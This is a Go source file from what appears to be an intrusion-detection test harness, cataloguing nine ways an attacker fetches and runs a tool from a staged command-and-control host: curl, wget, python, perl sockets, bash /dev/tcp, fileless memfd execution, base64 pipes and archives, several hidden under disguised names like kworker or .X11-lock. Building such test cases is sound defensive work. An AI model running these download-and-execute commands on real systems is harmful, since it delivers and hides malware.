package shapes

import (
	"baize/test/intrusions/stage"
)

// downloads differ in what fetches the tool.
var downloads = []Shape{
	{
		Name: "curl", About: "the report's: curl into shared memory, chmod, run, in one request",
		Play: simple(list(drop+" "+stage.C2), list("/dev/shm/kworker"),
			"curl -s "+get("t")+" -o /dev/shm/kworker; chmod +x /dev/shm/kworker; /dev/shm/kworker"),
	},
	{
		Name: "wget", About: "wget into /tmp under a hidden name, run in the background after the request",
		Play: simple(list(drop+" "+stage.C2), list("/tmp/.X11-lock"),
			"wget -q "+get("t")+" -O /tmp/.X11-lock; chmod 755 /tmp/.X11-lock; nohup setsid /tmp/.X11-lock > /dev/null 2>&1; sleep 1"),
	},
	{
		Name: "python", About: "python fetches, permits and becomes the tool, in one process",
		Play: simple(list(drop+" "+stage.C2), list("/dev/shm/.cache"),
			`python3 -c "import urllib.request,os;urllib.request.urlretrieve('`+get("t")+`','/dev/shm/.cache');os.chmod('/dev/shm/.cache',493);os.execv('/dev/shm/.cache',['worker'])"`),
	},
	{
		Name: "perl", About: "perl fetches over a plain socket, permits and starts the tool",
		Play: simple(list(drop2+" "+stage.OtherC2), list("/var/tmp/.pl"),
			`perl -MIO::Socket::INET -e 'my $s=IO::Socket::INET->new("`+drop2+`");print $s "GET /u HTTP/1.0\r\nHost: x\r\n\r\n";local $/;my $d=<$s>;$d=~s/^.*?\r\n\r\n//s;open(F,">/var/tmp/.pl");print F $d;close F;chmod 0700,"/var/tmp/.pl";system("/var/tmp/.pl")'`),
	},
	{
		Name: "bash-tcp", About: "bash alone, through /dev/tcp",
		Play: simple(list(drop+" "+stage.C2), list("/tmp/.d"),
			`bash -c 'exec 3<>/dev/tcp/`+stage.Drop+`/80; printf "GET /t HTTP/1.0\r\nHost: x\r\n\r\n" >&3; while IFS= read -r l <&3 && [ "$l" != "$(printf "\r")" ]; do :; done; cat <&3 > /tmp/.d'; chmod u+x /tmp/.d; /tmp/.d`),
	},
	{
		Name: "memfd", About: "the tool never has a file: python reads it from the network into a memfd and executes that",
		Play: simple(list(drop+" "+stage.C2), list("memfd:x=memfd:x"),
			`python3 -c "import urllib.request,os;f=os.memfd_create('x');os.write(f,urllib.request.urlopen('`+get("t")+`').read());os.execv('/proc/self/fd/%d'%f,['worker'])"`),
	},
	{
		Name: "base64-pipe", About: "a script arrives encoded in the request itself, is decoded by a pipe, permitted and run by its own first line",
		Play: simple(list(stage.C2), list("/tmp/.s"),
			"echo "+encoded("#!/bin/bash\n"+stage.Hello("/tmp/.s"))+" | base64 -d > /tmp/.s; chmod +x /tmp/.s; /tmp/.s"),
	},
	{
		Name: "piped-script", About: "an encoded script goes from the network through a pipe into a shell, which writes the tool",
		Play: simple(list(drop+" "+stage.C2), list("/tmp/.t"),
			"echo "+encoded("curl -s "+get("t")+" > /tmp/.t\nchmod 700 /tmp/.t\n/tmp/.t\n")+" | base64 -d | bash"),
	},
	{
		Name: "archive", About: "the tool comes in an archive, with its permission to run",
		Play: simple(list(drop+" "+stage.C2), list("/tmp/a.tgz /var/tmp/kworker"),
			"curl -s "+get("a.tgz")+" -o /tmp/a.tgz; tar xzf /tmp/a.tgz -C /var/tmp; /var/tmp/kworker"),
	},
}
